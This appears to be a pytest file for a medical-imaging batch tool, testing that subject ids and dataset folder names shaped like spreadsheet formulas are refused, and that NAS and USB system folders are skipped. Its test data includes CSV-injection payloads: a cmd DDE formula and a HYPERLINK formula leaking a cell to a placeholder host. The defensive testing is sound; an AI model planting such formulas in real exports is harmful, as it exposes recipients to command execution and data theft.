"""Subject ids a spreadsheet would run as formulas are refused: the batch report and a written manifest repeat
them, and Excel ran =HYPERLINK(...) from a tampered manifest or dataset folder name (CSV injection)."""

import csv

import pytest

from medfuse.batch import _formula_like, discover, read_manifest
from medfuse.errors import InvalidInputError


@pytest.mark.parametrize("name,formula", [("=1+2", True), ("+A1", True), ("@SUM(1)", True), ("-2+3+cmd|' /C x'!A0", True),
                                          ("\tx", True), ("-01", False), ("-1.5", False), ("sub-01", False),
                                          ("P=1", False)])
def test_formula_like(name, formula):
    assert _formula_like(name) is formula


def test_a_manifest_subject_named_like_a_formula_is_refused_without_echoing_it(tmp_path):
    manifest = tmp_path / "m.csv"
    with open(manifest, "w", newline="") as fh:
        csv.writer(fh).writerows([["subject", "fixed", "moving", "output"],
                                  ['=HYPERLINK("http://x.example/?d="&B2,"click")', "a.nii.gz", "b.nii.gz",
                                   "out/s.nii.gz"]])
    with pytest.raises(InvalidInputError, match="spreadsheet formula") as ei:
        read_manifest(manifest)
    assert "HYPERLINK" not in str(ei.value)


def test_a_dataset_folder_named_like_a_formula_is_refused(tmp_path):
    (tmp_path / "=1+2").mkdir()
    (tmp_path / "=1+2" / "t1.nii.gz").write_bytes(b"")  # it holds an input: a subject the report would quote
    (tmp_path / "sub-01").mkdir()
    with pytest.raises(InvalidInputError, match="named like a spreadsheet formula"):
        discover(tmp_path)


@pytest.mark.parametrize("junk", ["@eaDir", "#recycle", "$RECYCLE.BIN", "System Volume Information", "@tmp"])
def test_folders_a_nas_or_usb_stick_makes_are_no_subjects(tmp_path, junk):
    """A Synology share's ``@eaDir`` refused the whole dataset as a formula-like subject (a folder the NAS makes
    again, on a share the user may not write); a USB stick's ``$RECYCLE.BIN`` failed as an unpaired subject."""
    (tmp_path / junk / "s01").mkdir(parents=True)
    if junk == "@eaDir":  # a file that might be DICOM: the folder is skipped by its name, not for being empty
        (tmp_path / junk / "s01" / "SYNOINDEX_MEDIA_INFO").write_bytes(b"")
    (tmp_path / "s01").mkdir()
    assert [s.subject for s in discover(tmp_path)] == ["s01"]
